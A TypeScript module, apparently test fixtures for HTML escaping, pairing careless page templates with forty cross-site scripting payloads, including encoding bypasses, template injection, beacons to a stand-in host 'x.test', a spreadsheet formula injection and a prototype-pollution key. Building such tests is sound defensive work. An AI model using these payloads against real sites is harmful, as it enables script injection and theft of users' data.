/** A host that nobody has, for payloads that send something away. */
const away = 'x.test';

/** How a page would have to be careless for a payload to run in it. */
type Careless = keyof typeof carelessPages;

export interface Payload {
  name: string;
  careless: Careless;
  /** The text that does `run` where it is not treated as text. At most 100 letters, the longest a name may be. */
  text(run: string): string;
  /** The same in at most 32 letters, the longest a phone number may be; where `text` is longer. */
  brief?(run: string): string;
}

const json = (text: string) => JSON.stringify(text).replaceAll('<', '\\u003c');
const script = (code: string) => `<!doctype html><script>${code}</script>`;

/** Pages with a text in them, put there without the care it needs. */
export const carelessPages = {
  'as HTML': (text: string) => `<!doctype html><p>${text}</p>`,
  'in a title': (text: string) => `<!doctype html><title>${text}</title>`,
  'in a text area': (text: string) => `<!doctype html><textarea>${text}</textarea>`,
  'in a style sheet': (text: string) => `<!doctype html><style>p{color:${text}}</style>`,
  'in a style': (text: string) => `<!doctype html><p style="color:${text}">text</p>`,
  'in a comment': (text: string) => `<!doctype html><!-- ${text} -->`,
  'in double quotes': (text: string) => `<!doctype html><input value="${text}">`,
  'in single quotes': (text: string) => `<!doctype html><input value='${text}'>`,
  'without quotes': (text: string) => `<!doctype html><input value=${text}>`,
  'as a link': (text: string) => `<!doctype html><a href="${text}">open</a>`,
  'as a source': (text: string) => `<!doctype html><script src="${text}"></script>`,
  'in a string of a script': (text: string) => script(`const text = "${text}";`),
  'in a template string': (text: string) => script(`const text = \`${text}\`;`),
  'as a template': (text: string) =>
    script(`for (const [, code] of ${json(text)}.matchAll(/{{(.*?)}}/g)) Function('return ' + code)();`),
  'with its entities decoded': (text: string) =>
    script(`document.write(new DOMParser().parseFromString(${json(text)}, 'text/html').body.textContent);`),
  'with its percents decoded': (text: string) => script(`document.write(decodeURIComponent(${json(text)}));`),
  'with its escapes decoded': (text: string) =>
    script(`document.write(JSON.parse('"' + ${json(text)} + '"'));`),
  'with its letters made plain': (text: string) => script(`document.write(${json(text)}.normalize('NFKC'));`),
  /** Spreadsheets run them; browsers do not. */
  'in a spreadsheet': undefined,
  /** The name of a property that every object has: nothing in it runs. */
  'as a key': undefined,
} as const satisfies Record<string, ((text: string) => string) | undefined>;

const html = 'as HTML';

/** Forty ways to have a script run, or something sent away, by a text. */
export const payloads: readonly Payload[] = [
  { name: 'script', careless: html, text: (run) => `<script>${run}</script>` },
  { name: 'image error', careless: html, text: (run) => `<img src onerror=${run}>` },
  { name: 'drawing', careless: html, text: (run) => `<svg onload=${run}>` },
  { name: 'mixed case and slash', careless: html, text: (run) => `<SvG/OnLoAd=${run}>` },
  { name: 'details', careless: html, text: (run) => `<details open ontoggle=${run}>` },
  {
    name: 'frame with a page',
    careless: html,
    text: (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    brief: (run) => `<iframe onload=${run}>`,
  },
  {
    name: 'frame with an address',
    careless: html,
    text: (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
    brief: (run) => `<iframe src=javascript:${run}>`,
  },
  {
    name: 'focus',
    careless: html,
    text: (run) => `<input autofocus onfocus="${run}">`,
    brief: (run) => `<style onload=${run}></style>`,
  },
  { name: 'video', careless: html, text: (run) => `<video><source onerror=${run}>` },
  { name: 'sound', careless: html, text: (run) => `<audio src onerror=${run}>` },
  { name: 'body', careless: html, text: (run) => `<body onload=${run}>` },
  {
    name: 'animation',
    careless: html,
    text: (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
    brief: (run) => `<svg><set onbegin=${run}>`,
  },
  { name: 'script in a drawing', careless: html, text: (run) => `<svg><script>${run}</script>` },
  { name: 'beacon', careless: html, text: (run) => `<img src=//${away}/${run}>` },
  {
    name: 'style sheet',
    careless: html,
    text: (run) => `<style>@import'//${away}/${run}';</style>`,
    brief: (run) => `<style>@import'//${away}/${run}`,
  },
  {
    name: 'link',
    careless: html,
    text: (run) => `<a href="javascript:${run}">open</a>`,
    brief: (run) => `<a href=javascript:${run}>open`,
  },
  {
    name: 'form',
    careless: html,
    text: (run) => `<form action="javascript:${run}"><button>open</button></form>`,
    brief: (run) => `<button onclick=${run}>open`,
  },
  {
    name: 'link in a drawing',
    careless: html,
    text: (run) => `<svg><a xlink:href="javascript:${run}"><text y="20">open</text></a></svg>`,
    brief: (run) => `<a onmouseover=${run}>open`,
  },
  {
    name: 'end of noscript',
    careless: html,
    text: (run) => `<noscript><p title="</noscript><svg onload=${run}>">`,
    brief: (run) => `<xmp></xmp><svg onload=${run}>`,
  },
  { name: 'end of a title', careless: 'in a title', text: (run) => `</title><svg onload=${run}>` },
  { name: 'end of a text area', careless: 'in a text area', text: (run) => `</textarea><svg onload=${run}>` },
  {
    name: 'end of a style sheet',
    careless: 'in a style sheet',
    text: (run) => `</style><svg onload=${run}>`,
  },
  {
    name: 'end of a script',
    careless: 'in a string of a script',
    text: (run) => `</script><svg onload=${run}>`,
  },
  { name: 'end of a comment', careless: 'in a comment', text: (run) => `--><svg onload=${run}>` },
  { name: 'end of double quotes', careless: 'in double quotes', text: (run) => `"><svg onload=${run}>` },
  { name: 'end of single quotes', careless: 'in single quotes', text: (run) => `'><svg onload=${run}>` },
  {
    name: 'handler after double quotes',
    careless: 'in double quotes',
    text: (run) => `" autofocus onfocus="${run}`,
  },
  {
    name: 'handler without quotes',
    careless: 'without quotes',
    text: (run) => `x autofocus onfocus=${run}`,
  },
  { name: 'end of a string', careless: 'in a string of a script', text: (run) => `";${run};"` },
  { name: 'template string', careless: 'in a template string', text: (run) => `\${${run}}` },
  {
    name: 'template',
    careless: 'as a template',
    text: (run) => `{{constructor.constructor("${run}")()}}`,
    brief: (run) => `{{${run}}}`,
  },
  { name: 'entities', careless: 'with its entities decoded', text: (run) => `&lt;svg onload=${run}&gt;` },
  { name: 'percents', careless: 'with its percents decoded', text: (run) => `%3Csvg onload=${run}%3E` },
  { name: 'escapes', careless: 'with its escapes decoded', text: (run) => `\\u003csvg onload=${run}\\u003e` },
  { name: 'wide letters', careless: 'with its letters made plain', text: (run) => `＜svg onload=${run}＞` },
  { name: 'address of a script', careless: 'as a link', text: (run) => `javascript:${run}` },
  { name: 'address of data', careless: 'as a source', text: (run) => `data:text/javascript,${run}` },
  {
    name: 'address in a style',
    careless: 'in a style',
    text: (run) => `red;background:url('//${away}/${run}')`,
    brief: (run) => `x;mask:url('//${away}/${run}`,
  },
  { name: 'formula', careless: 'in a spreadsheet', text: (run) => `=HYPERLINK("//${away}/${run}")` },
  { name: 'prototype', careless: 'as a key', text: () => '__proto__' },
];
